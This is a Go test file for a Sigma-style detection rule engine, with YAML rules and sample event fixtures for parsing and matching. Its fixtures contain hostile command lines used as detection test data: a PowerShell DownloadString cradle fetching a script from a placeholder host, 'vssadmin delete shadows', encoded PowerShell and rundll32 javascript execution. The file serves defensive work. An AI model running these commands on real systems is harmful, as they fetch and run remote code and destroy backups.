package detection

import (
	"testing"

	"gopkg.in/yaml.v2"
)

var ruleImageLoad = `
detection:
  condition: "selection and not filter"
  selection:
    ImageLoaded|endswith:
    - '\wmiutils.dll'
    - '\wbemcomn.dll'
  filter:
    Image|startswith: 'C:\Windows\'
`

var ruleImageLoadPos1 = `
{
	"ImageLoaded": "C:\\Users\\public\\wbemcomn.dll",
	"Image":       "C:\\Users\\public\\loader.exe"
}
`

var ruleImageLoadNeg1 = `
{
	"ImageLoaded": "C:\\Windows\\System32\\wbem\\wbemcomn.dll",
	"Image":       "C:\\Windows\\System32\\svchost.exe"
}
`

var ruleImageLoadNeg2 = `
{
	"ImageLoaded": "C:\\Users\\public\\other.dll",
	"Image":       "C:\\Users\\public\\loader.exe"
}
`

var ruleDllRename = `
detection:
  condition: "to_dll and not 1 of filter_*"
  to_dll:
    TargetFilename|endswith: '.dll'
  filter_from_dll:
    SourceFilename|endswith: '.dll'
  filter_tiworker:
    Image|endswith: '\tiworker.exe'
`

var ruleDllRenamePos1 = `
{
	"TargetFilename": "C:\\payload\\evil.dll",
	"SourceFilename": "C:\\payload\\evil.tmp",
	"Image":          "C:\\dropper\\stage2.exe"
}
`

// source already a dll, rename is benign
var ruleDllRenameNeg1 = `
{
	"TargetFilename": "C:\\payload\\evil.dll",
	"SourceFilename": "C:\\payload\\evil.dll",
	"Image":          "C:\\dropper\\stage2.exe"
}
`

// trusted updater process, matched case-insensitively
var ruleDllRenameNeg2 = `
{
	"TargetFilename": "C:\\Windows\\WinSxS\\new.dll",
	"SourceFilename": "C:\\Windows\\WinSxS\\new.tmp",
	"Image":          "C:\\Windows\\WinSxS\\amd64\\TiWorker.exe"
}
`

// target is not a dll at all
var ruleDllRenameNeg3 = `
{
	"TargetFilename": "C:\\payload\\evil.exe",
	"SourceFilename": "C:\\payload\\evil.tmp"
}
`

var ruleGroupedOr = `
detection:
  condition: "(selection1 or selection2) and not filter"
  selection1:
    Image|endswith:
    - '\schtasks.exe'
    - '\certutil.exe'
    - '\bitsadmin.exe'
  selection2:
    ParentImage|endswith:
    - '\mshta.exe'
    - '\wscript.exe'
    - '\wmiprvse.exe'
  filter:
    CommandLine|contains: 'health-check'
`

var ruleGroupedOrPos1 = `
{
	"Image":       "C:\\test\\bitsadmin.exe",
	"CommandLine": "transfer job",
	"ParentImage": "C:\\test\\custom.exe"
}
`

var ruleGroupedOrPos2 = `
{
	"Image":       "C:\\test\\custom.exe",
	"CommandLine": "transfer job",
	"ParentImage": "C:\\test\\wmiprvse.exe"
}
`

var ruleGroupedOrNeg1 = `
{
	"Image":       "C:\\test\\bitsadmin.exe",
	"CommandLine": "scheduled health-check run",
	"ParentImage": "C:\\test\\wmiprvse.exe"
}
`

var ruleGroupedOrNeg2 = `
{
	"Image":       "C:\\test\\custom.exe",
	"CommandLine": "transfer job",
	"ParentImage": "C:\\test\\other.exe"
}
`

var ruleAllOfThem = `
detection:
  condition: "all of them"
  selection_images:
    Image|endswith:
    - '\schtasks.exe'
    - '\bitsadmin.exe'
  selection_parents:
    ParentImage|endswith:
    - '\mshta.exe'
    - '\wmiprvse.exe'
`

var ruleAllOfThemPos1 = `
{
	"Image":       "C:\\test\\bitsadmin.exe",
	"ParentImage": "C:\\test\\wmiprvse.exe"
}
`

var ruleAllOfThemNeg1 = `
{
	"Image":       "C:\\test\\bitsadmin.exe",
	"ParentImage": "C:\\test\\explorer.exe"
}
`

var ruleCountOf = `
detection:
  condition: "2 of selection_*"
  selection_proc:
    Image|endswith: '\powershell.exe'
  selection_args:
    CommandLine|contains: '-enc'
  selection_parent:
    ParentImage|endswith: '\winword.exe'
`

var ruleCountOfPos1 = `
{
	"Image":       "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
	"CommandLine": "powershell -enc SQBFAFgA",
	"ParentImage": "C:\\Windows\\explorer.exe"
}
`

var ruleCountOfPos2 = `
{
	"Image":       "C:\\custom\\shell.exe",
	"CommandLine": "powershell -enc SQBFAFgA",
	"ParentImage": "C:\\Program Files\\Microsoft Office\\winword.exe"
}
`

var ruleCountOfNeg1 = `
{
	"Image":       "C:\\custom\\shell.exe",
	"CommandLine": "powershell -Command Get-Process",
	"ParentImage": "C:\\Windows\\explorer.exe"
}
`

var ruleBlockList = `
detection:
  condition: "selection"
  selection:
  - EventID: 4104
    ScriptBlockText|contains: 'FromBase64String'
  - EventID: 4103
    Payload|contains: 'DownloadString'
`

var ruleBlockListPos1 = `
{
	"EventID":         4104,
	"ScriptBlockText": "[Convert]::FromBase64String(\"T01JVFRFRA==\")"
}
`

var ruleBlockListPos2 = `
{
	"EventID": 4103,
	"Payload": "IEX (New-Object Net.WebClient).DownloadString('http://x/a.ps1')"
}
`

// fields cross blocks, no single block satisfied
var ruleBlockListNeg1 = `
{
	"EventID": 4103,
	"ScriptBlockText": "[Convert]::FromBase64String(\"T01JVFRFRA==\")"
}
`

var ruleContainsAll = `
detection:
  condition: "selection"
  selection:
    CommandLine|contains|all:
    - 'vssadmin'
    - 'delete'
    - 'shadows'
`

var ruleContainsAllPos1 = `
{ "CommandLine": "vssadmin.exe delete shadows /all /quiet" }
`

var ruleContainsAllNeg1 = `
{ "CommandLine": "vssadmin.exe list shadows" }
`

var ruleRegex = `
detection:
  condition: "selection"
  selection:
    PipeName|re: '\\\\msagent_[0-9a-f]{2}'
`

var ruleRegexPos1 = `
{ "PipeName": "\\\\msagent_a4" }
`

var ruleRegexNeg1 = `
{ "PipeName": "\\\\msagent_zz" }
`

var ruleNested = `
detection:
  condition: "selection and winlog_present"
  selection:
    winlog.event_data.ScriptBlockText|contains: 'FromBase64String'
  winlog_present:
    winlog.event_id: 4104
`

var ruleNestedPos1 = `
{
	"winlog": {
		"event_id": 4104,
		"event_data": {
			"ScriptBlockText": "$s=[Convert]::FromBase64String(\"T01JVFRFRA==\");"
		}
	}
}
`

var ruleNestedNeg1 = `
{
	"winlog": {
		"event_id": 4104,
		"event_data": {
			"ScriptBlockText": "Write-Host hello"
		}
	}
}
`

var ruleRepeatedIdent = `
detection:
  condition: "(selection and filter1) or (selection and filter2)"
  selection:
    Image|endswith: '\rundll32.exe'
  filter1:
    CommandLine|contains: 'javascript:'
  filter2:
    CommandLine|contains: 'vbscript:'
`

var ruleRepeatedIdentPos1 = `
{
	"Image":       "C:\\Windows\\System32\\rundll32.exe",
	"CommandLine": "rundll32.exe javascript:\"..\\mshtml,RunHTMLApplication\""
}
`

var ruleRepeatedIdentNeg1 = `
{
	"Image":       "C:\\Windows\\System32\\rundll32.exe",
	"CommandLine": "rundll32.exe shell32.dll,Control_RunDLL"
}
`

var ruleNumericList = `
detection:
  condition: "selection"
  selection:
    event_id:
    - 8888
    - 1337
`

var ruleNumericListPos1 = `
{ "event_id": 1337 }
`

var ruleNumericListNeg1 = `
{ "event_id": 4104 }
`

var ruleGlobValue = `
detection:
  condition: "selection"
  selection:
    Image:
    - '*\bitsadmin.exe'
    - 'C:\Windows\Temp\\??.exe'
`

var ruleGlobValuePos1 = `
{ "Image": "C:\\test\\bitsadmin.exe" }
`

var ruleGlobValuePos2 = `
{ "Image": "C:\\Windows\\Temp\\ab.exe" }
`

var ruleGlobValueNeg1 = `
{ "Image": "C:\\Windows\\Temp\\abc.exe" }
`

type parseTestCase struct {
	ID       int
	Rule     string
	Pos, Neg []string
}

var parseTestCases = []parseTestCase{
	{
		ID:   1,
		Rule: ruleImageLoad,
		Pos:  []string{ruleImageLoadPos1},
		Neg:  []string{ruleImageLoadNeg1, ruleImageLoadNeg2},
	},
	{
		ID:   2,
		Rule: ruleDllRename,
		Pos:  []string{ruleDllRenamePos1},
		Neg:  []string{ruleDllRenameNeg1, ruleDllRenameNeg2, ruleDllRenameNeg3},
	},
	{
		ID:   3,
		Rule: ruleGroupedOr,
		Pos:  []string{ruleGroupedOrPos1, ruleGroupedOrPos2},
		Neg:  []string{ruleGroupedOrNeg1, ruleGroupedOrNeg2},
	},
	{
		ID:   4,
		Rule: ruleAllOfThem,
		Pos:  []string{ruleAllOfThemPos1},
		Neg:  []string{ruleAllOfThemNeg1},
	},
	{
		ID:   5,
		Rule: ruleCountOf,
		Pos:  []string{ruleCountOfPos1, ruleCountOfPos2},
		Neg:  []string{ruleCountOfNeg1},
	},
	{
		ID:   6,
		Rule: ruleBlockList,
		Pos:  []string{ruleBlockListPos1, ruleBlockListPos2},
		Neg:  []string{ruleBlockListNeg1},
	},
	{
		ID:   7,
		Rule: ruleContainsAll,
		Pos:  []string{ruleContainsAllPos1},
		Neg:  []string{ruleContainsAllNeg1},
	},
	{
		ID:   8,
		Rule: ruleRegex,
		Pos:  []string{ruleRegexPos1},
		Neg:  []string{ruleRegexNeg1},
	},
	{
		ID:   9,
		Rule: ruleNested,
		Pos:  []string{ruleNestedPos1},
		Neg:  []string{ruleNestedNeg1},
	},
	{
		ID:   10,
		Rule: ruleRepeatedIdent,
		Pos:  []string{ruleRepeatedIdentPos1},
		Neg:  []string{ruleRepeatedIdentNeg1},
	},
	{
		ID:   11,
		Rule: ruleNumericList,
		Pos:  []string{ruleNumericListPos1},
		Neg:  []string{ruleNumericListNeg1},
	},
	{
		ID:   12,
		Rule: ruleGlobValue,
		Pos:  []string{ruleGlobValuePos1, ruleGlobValuePos2},
		Neg:  []string{ruleGlobValueNeg1},
	},
}

func TestTokenCollect(t *testing.T) {
	for _, c := range LexPosCases {
		p := &parser{
			lex: lex(c.Expr),
		}
		if err := p.collect(); err != nil {
			switch err.(type) {
			case ErrUnsupportedToken:
			default:
				t.Fatal(err)
			}
		}
	}
}

// a zero-value parser must treat the first lexeme as following the start of
// the expression, a minimal one-identifier condition exercises exactly that
func TestTokenCollectMinimal(t *testing.T) {
	p := &parser{lex: lex("selection")}
	if err := p.collect(); err != nil {
		t.Fatalf("single identifier condition failed collection, %s", err)
	}
	if len(p.tokens) != 1 || p.tokens[0].T != TokIdentifier {
		t.Fatalf("expected one identifier lexeme, got %+v", p.tokens)
	}
}

func TestParse(t *testing.T) {
	for _, c := range parseTestCases {
		var rule Rule
		if err := yaml.Unmarshal([]byte(c.Rule), &rule); err != nil {
			t.Fatalf("rule parse case %d failed to unmarshal yaml, %s", c.ID, err)
		}
		if _, err := NewTree(RuleHandle{Rule: rule}); err != nil {
			t.Fatalf("rule parse case %d failed to compile, %s", c.ID, err)
		}
	}
}

var parseNegCases = []struct {
	ID   int
	Rule string
}{
	{
		// no detection map at all
		ID:   1,
		Rule: `title: nothing here`,
	},
	{
		// condition missing
		ID: 2,
		Rule: `
detection:
  selection:
    Image: 'whatever.exe'
`,
	},
	{
		// condition refers to an undeclared selection
		ID: 3,
		Rule: `
detection:
  condition: "selection and missing"
  selection:
    Image: 'whatever.exe'
`,
	},
	{
		// wildcard group matches nothing
		ID: 4,
		Rule: `
detection:
  condition: "1 of filter_*"
  selection:
    Image: 'whatever.exe'
`,
	},
	{
		// zero threshold
		ID: 5,
		Rule: `
detection:
  condition: "0 of selection_*"
  selection_a:
    Image: 'whatever.exe'
`,
	},
	{
		// unknown field modifier
		ID: 6,
		Rule: `
detection:
  condition: "selection"
  selection:
    Image|fuzzy: 'whatever.exe'
`,
	},
	{
		// broken regular expression
		ID: 7,
		Rule: `
detection:
  condition: "selection"
  selection:
    Image|re: '[unclosed'
`,
	},
	{
		// aggregations are not supported
		ID: 8,
		Rule: `
detection:
  condition: "selection | count() > 10"
  selection:
    Image: 'whatever.exe'
`,
	},
	{
		// two identifiers without a connective keyword
		ID: 9,
		Rule: `
detection:
  condition: "selection1 selection2"
  selection1:
    Image: 'whatever.exe'
  selection2:
    Image: 'other.exe'
`,
	},
	{
		// empty value list
		ID: 10,
		Rule: `
detection:
  condition: "selection"
  selection:
    Image: []
`,
	},
}

func TestParseInvalid(t *testing.T) {
	for _, c := range parseNegCases {
		var rule Rule
		if err := yaml.Unmarshal([]byte(c.Rule), &rule); err != nil {
			t.Fatalf("invalid rule case %d failed to unmarshal yaml, %s", c.ID, err)
		}
		if _, err := NewTree(RuleHandle{Rule: rule}); err == nil {
			t.Fatalf("invalid rule case %d compiled without error", c.ID)
		}
	}
}
